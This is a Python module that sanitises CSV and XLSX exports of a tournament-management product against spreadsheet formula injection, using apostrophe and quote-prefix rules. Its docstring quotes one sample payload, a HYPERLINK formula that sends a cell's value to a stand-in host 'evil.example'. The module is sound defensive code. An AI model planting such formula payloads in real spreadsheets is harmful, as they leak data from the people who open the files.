"""Every CSV and XLSX the product writes goes through here, so that no text a person typed
(a player's name, an event's or a category's name) reaches a spreadsheet as a formula.

Pure: no Django (``standings.fastpath`` writes its CSV with it without starting Django).

A spreadsheet program reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: a player registered as
``=HYPERLINK("http://evil.example/?d="&A1,"Claim prize")`` would put a live link in the
organiser's prize sheet. Such cells get a leading apostrophe, which spreadsheets take as "this
is text" (OWASP, "CSV Injection"). The exact numbers we write ourselves (``-0.25``,
``-25/3``) are left alone: a plain number carries no formula, and scripts read them as
numbers.

Not every spreadsheet splits a CSV on the comma: most of continental Europe splits on ``;``,
others on a tab or ``|``, and a careless import splits on all of them. A player registered as
``Semi;=1+1`` is one cell to us but two to such a program, the second a live ``=1+1``
(issue 29). So every field that holds any of those separators is quoted (a program that
splits on ``;`` and honours quotes keeps it one cell), and the field is neutralised as each of
those programs would split it: every piece that would start like a formula, spaces aside,
gets its apostrophe (``Semi;'=1+1``).

In XLSX every text cell is stored as text, never as a formula, and a text cell that starts
like a formula is marked with the "quote prefix" style, so that the spreadsheet keeps it as
text when someone edits the cell; it shows the name exactly as typed. Numbers stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The exact numbers of points, tie-breaks and money ("-0.25", "-25/3"), and a tie-break's
# list of them ("-1 2"): digits, a point or a slash, spaces between numbers.
_NUMBER = r"-?[0-9]+(\.[0-9]+)?(/[0-9]+)?"
_PLAIN_NUMBERS = re.compile(f"{_NUMBER}( {_NUMBER})*")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBERS.fullmatch(text) is None


# What some spreadsheet program splits a CSV line on (the line ends too, for one that splits
# lines before it reads quotes), and what makes a field need quotes in any of them.
SEPARATORS = ",;\t|\r\n"
_PIECES = re.compile(f"([{re.escape(SEPARATORS)}])")
_NEEDS_QUOTES = frozenset(SEPARATORS + '"')


def _piece_text(piece: str) -> str:
    """One piece of a field as a splitting program would see it: an apostrophe before the
    formula, after any leading spaces (a program that trims them still sees text)."""
    body = piece.lstrip(" ")
    if not starts_like_formula(body):
        return piece
    return piece[: len(piece) - len(body)] + "'" + body


def cell_text(text: str) -> str:
    """``text`` as a CSV cell: an apostrophe before the field, and before every piece of it
    that a program splitting on one of :data:`SEPARATORS` would run as a formula."""
    if starts_like_formula(text):  # the OWASP rule for the whole cell, tab and CR included
        text = "'" + text
    pieces = _PIECES.split(text)  # the pieces at even indexes, the separators between
    return "".join(_piece_text(piece) if i % 2 == 0 else piece for i, piece in enumerate(pieces))


def _csv_field(value: Any) -> str:
    """RFC 4180: a field in double quotes (inner quotes doubled) when it holds a separator of
    any program, else as it is; numbers as Python writes them, ``None`` empty."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)
    text = cell_text(value)
    if _NEEDS_QUOTES.isdisjoint(text):
        return text
    return '"' + text.replace('"', '""') + '"'


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """The rows as CSV (``\\n`` line ends); every text cell through :func:`cell_text`, and
    quoted where any spreadsheet would split it."""
    return "".join(",".join(_csv_field(value) for value in row) + "\n" for row in rows)


def xlsx_append(sheet: Any, values: Sequence[Any]) -> list[Any]:
    """``sheet.append(values)`` (an openpyxl worksheet) with every text cell stored as text;
    the cells of the new row, for the caller's number formats.

    openpyxl turns a string that starts with ``=`` into a formula cell; here it stays a
    string, and one that starts like a formula gets the quote prefix. The cells are made here
    rather than found afterwards: ``sheet.max_row`` counts every cell of the sheet, so finding
    each new row by it made a sheet of 5,000 lines take two minutes (issue 29)."""
    from openpyxl.cell import Cell

    cells = [Cell(sheet, value=value) for value in values]
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if starts_like_formula(cell.value):
                cell.quotePrefix = True
    sheet.append(cells)
    return cells
